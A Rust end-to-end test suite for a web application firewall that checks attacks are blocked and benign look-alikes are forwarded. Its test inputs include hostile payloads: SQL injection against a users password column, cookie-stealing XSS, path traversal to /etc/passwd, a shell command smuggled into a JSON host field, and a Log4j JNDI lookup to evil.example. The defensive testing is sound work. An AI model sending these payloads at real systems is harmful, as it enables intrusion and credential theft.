//! The WAF end to end, with the real proxy and origin: each attack class answered 403 and never
//! forwarded (the origin saw nothing), benign look-alikes forwarded unchanged, monitor mode
//! forwarding while telemetry records the findings, a scanner that keeps going banned, an
//! exclusion stopping a false positive, an unknown rule id refused by `palisade check`, and
//! `palisade run --policy policies/waf.yaml` as shipped. Clients are told apart by
//! `X-Forwarded-For` from the trusted loopback proxy, so strikes do not mix between cases.

mod common;
use common::*;

use std::path::Path;

use reqwest::blocking::RequestBuilder;

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

const ENFORCE: &str = "\
waf:
  headers: [x-api-version]
offenders:
  strikes: 3
  window: 60s
  ban_for: 10m
";

fn start(policy: &str) -> (Origin, Proxy) {
    let origin = Origin::spawn("127.0.0.1:0").expect("origin");
    let p = Proxy::start(
        &format!(
            "trusted_proxies: [127.0.0.1]\npolicies: [p.yaml]\n{}",
            single_pool(&origin)
        ),
        &[("p.yaml", policy)],
    );
    (origin, p)
}

/// Send `req` as client `ip`: status and the request's telemetry event.
fn send(p: &Proxy, req: RequestBuilder, ip: &str) -> (u16, serde_json::Value) {
    let r = req
        .header("x-forwarded-for", ip)
        .header("user-agent", BROWSER)
        .send()
        .expect("request");
    let status = r.status().as_u16();
    let id = request_id(&r);
    (status, p.event_for(&id))
}

fn rules_found(ev: &serde_json::Value) -> Vec<String> {
    ev["palisade"]["findings"]
        .as_array()
        .map(|fs| {
            fs.iter()
                .filter(|f| f["stage"] == "waf")
                .map(|f| f["rule"].as_str().unwrap_or_default().to_string())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn each_attack_class_is_refused_and_not_forwarded() {
    let (origin, p) = start(ENFORCE);
    let c = client();
    let form = "application/x-www-form-urlencoded";
    let cases: Vec<(&str, RequestBuilder, &str)> = vec![
        (
            "sqli",
            c.get(p.url("/a-search?q=1%27%20union%20select%20password%20from%20users--")),
            "/a-search",
        ),
        (
            "xss",
            c.post(p.url("/a-comments"))
                .header("content-type", form)
                .body("name=bob&text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
            "/a-comments",
        ),
        (
            "lfi",
            c.get(p.url("/a-static/%252e%252e%252f%252e%252e%252fetc%252fpasswd")),
            "/a-static",
        ),
        (
            "rce",
            c.post(p.url("/a-api/run"))
                .header("content-type", "application/json")
                .body(r#"{"host":"example.com; cat /etc/passwd","n":1}"#),
            "/a-api",
        ),
        (
            "java",
            c.get(p.url("/a-log4j"))
                .header("x-api-version", "${jndi:ldap://evil.example/a}"),
            "/a-log4j",
        ),
    ];
    for (i, (class, req, path)) in cases.into_iter().enumerate() {
        let (status, ev) = send(&p, req, &format!("192.0.2.{}", 10 + i));
        assert_eq!(status, 403, "{class}: {ev}");
        assert_eq!(ev["palisade"]["decision"]["rule"], "waf", "{class}: {ev}");
        assert!(ev["palisade"]["decision"]["counter"].as_i64().unwrap_or(0) >= 5, "{ev}");
        let found = rules_found(&ev);
        assert!(
            found.iter().any(|r| r.starts_with(class)),
            "{class}: findings {found:?}"
        );
        assert!(origin.seen_path(path).is_empty(), "{class} reached the origin");
    }
    // A scanner's User-Agent is an attack class of its own.
    let r = c
        .get(p.url("/a-scan"))
        .header("x-forwarded-for", "192.0.2.30")
        .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
        .send()
        .expect("req");
    assert_eq!(r.status(), 403);
    let ev = p.event_for(&request_id(&r));
    assert_eq!(ev["palisade"]["decision"]["matched"], "scanner.ua", "{ev}");
    assert!(origin.seen_path("/a-scan").is_empty());
    eventually("the per-rule counter", || {
        p.metric("palisade_findings_total{action=\"block\",rule=\"scanner.ua\",stage=\"waf\"}")
            .filter(|n| *n >= 1.0)
    });
}

#[test]
fn benign_look_alikes_are_forwarded_unchanged() {
    let (origin, p) = start(ENFORCE);
    let c = client();
    let form = "application/x-www-form-urlencoded";
    let (s, ev) = send(
        &p,
        c.get(p.url("/b-search?q=O%27Reilly+select+books&sort=price&order=desc")),
        "192.0.2.40",
    );
    assert_eq!(s, 200, "{ev}");
    let body = "name=Fran%C3%A7ois&text=Drop+by+at+5+or+6%2C+we%27ll+update+the+table+then";
    let (s, ev) = send(
        &p,
        c.post(p.url("/b-comments")).header("content-type", form).body(body),
        "192.0.2.41",
    );
    assert_eq!(s, 200, "{ev}");
    let json = r#"{"title":"Union Station & 5th","notes":"meet at 1 <= x < 3 pm, select a table"}"#;
    let (s, ev) = send(
        &p,
        c.post(p.url("/b-api/orders"))
            .header("content-type", "application/json")
            .body(json),
        "192.0.2.42",
    );
    assert_eq!(s, 200, "{ev}");
    assert!(rules_found(&ev).is_empty(), "{ev}");
    let seen = origin.seen_path("/b-comments");
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body, body.as_bytes(), "the body is forwarded unchanged");
    let seen = origin.seen_path("/b-api/orders");
    assert_eq!(seen[0].body, json.as_bytes());
    assert_eq!(origin.seen_path("/b-search").len(), 1);
}

#[test]
fn monitor_mode_forwards_and_records_the_findings() {
    let (origin, p) = start("waf:\n  mode: monitor\n");
    let (s, ev) = send(
        &p,
        client().get(p.url("/m-search?id=1%27%20or%20%271%27%3D%271")),
        "192.0.2.50",
    );
    assert_eq!(s, 200);
    assert_eq!(ev["palisade"]["decision"]["action"], "would_block", "{ev}");
    assert_eq!(ev["palisade"]["decision"]["rule"], "waf");
    let f = &ev["palisade"]["findings"][0];
    assert_eq!(f["stage"], "waf");
    assert_eq!(f["field"], "query:id");
    assert_eq!(f["action"], "monitor");
    assert!(f["rule"].as_str().unwrap_or_default().starts_with("sqli"), "{f}");
    // The excerpt is redacted: never the whole payload.
    assert_ne!(f["excerpt"], "1' or '1'='1");
    assert_eq!(origin.seen_path("/m-search").len(), 1);
}

#[test]
fn a_scanner_that_keeps_going_is_banned() {
    let (origin, p) = start(ENFORCE);
    let c = client();
    let ip = "192.0.2.60";
    // Head-phase blocks (query) and a body-phase block (form) both strike.
    for path in [
        "/s-1?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/s-2?f=../../../../etc/passwd",
    ] {
        let (s, _) = send(&p, c.get(p.url(path)), ip);
        assert_eq!(s, 403, "{path}");
    }
    let (s, _) = send(
        &p,
        c.post(p.url("/s-3"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("q=1%27%20union%20select%20password%20from%20users--"),
        ip,
    );
    assert_eq!(s, 403);
    let (s, ev) = send(&p, c.get(p.url("/s-clean")), ip);
    assert_eq!(s, 403, "banned: {ev}");
    assert_eq!(ev["palisade"]["decision"]["rule"], "repeat-offender-ban");
    assert!(
        origin.seen_path("/s-").is_empty(),
        "nothing of the scanner reached the origin"
    );
    // Another client is unaffected.
    let (s, _) = send(&p, c.get(p.url("/s-clean")), "192.0.2.61");
    assert_eq!(s, 200);
}

#[test]
fn exclusions_and_rule_overrides_stop_false_positives() {
    let policy = "\
waf:
  rules:
    - {id: sqli, action: monitor}
  exclusions:
    - {rule: xss, path: /e-comments, field: body}
";
    let (origin, p) = start(policy);
    let c = client();
    let form = "application/x-www-form-urlencoded";
    let quoting = "text=Use+%3Cscript%3Ealert(1)%3C%2Fscript%3E+to+test+your+sanitiser";
    let (s, ev) = send(
        &p,
        c.post(p.url("/e-comments/42"))
            .header("content-type", form)
            .body(quoting),
        "192.0.2.70",
    );
    assert_eq!(s, 200, "excluded under /e-comments: {ev}");
    assert!(rules_found(&ev).is_empty(), "{ev}");
    assert_eq!(origin.seen_path("/e-comments").len(), 1);
    let (s, _) = send(
        &p,
        c.post(p.url("/e-profile")).header("content-type", form).body(quoting),
        "192.0.2.71",
    );
    assert_eq!(s, 403, "the same body elsewhere is still an attack");
    // `sqli` only reports.
    let (s, ev) = send(&p, c.get(p.url("/e-search?q=1%27%20or%201%3D1--")), "192.0.2.72");
    assert_eq!(s, 200, "{ev}");
    assert_eq!(ev["palisade"]["findings"][0]["action"], "monitor", "{ev}");
}

#[test]
fn an_unknown_rule_id_is_a_check_error_with_file_and_line() {
    let err = policy_check_errors(
        "waf:\n  rules:\n    - {id: sqli.libinjection, action: off}\n    - {id: sqlx, action: monitor}\n  exclusions:\n    - {rule: xss.nope, field: body}\n",
    );
    assert!(
        err.lines()
            .any(|l| l.contains("p.yaml:4:") && l.contains("waf.rules[1].id") && l.contains("sqlx")),
        "{err}"
    );
    assert!(
        err.lines()
            .any(|l| l.contains("p.yaml:6:") && l.contains("waf.exclusions[0].rule")),
        "{err}"
    );
}

#[test]
fn the_shipped_waf_policy_runs_from_the_command_line() {
    let origin = Origin::spawn("127.0.0.1:0").expect("origin");
    let dir = tempfile::tempdir().expect("dir");
    let policy = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/waf.yaml");
    let upstream = origin.addr.expect("addr").to_string();
    let (listen, _running) = run_policy_file(dir.path(), &policy, &upstream);
    let c = client();
    let get = |path: &str| {
        c.get(format!("http://{listen}{path}"))
            .header("user-agent", BROWSER)
            .send()
            .expect("req")
            .status()
            .as_u16()
    };
    assert_eq!(get("/w-ok?q=hello+world"), 200);
    assert_eq!(
        get("/w-bad?q=%27%20union%20select%20null,password%20from%20users--"),
        403
    );
    assert!(origin.seen_path("/w-bad").is_empty());
    assert_eq!(origin.seen_path("/w-ok").len(), 1);
}
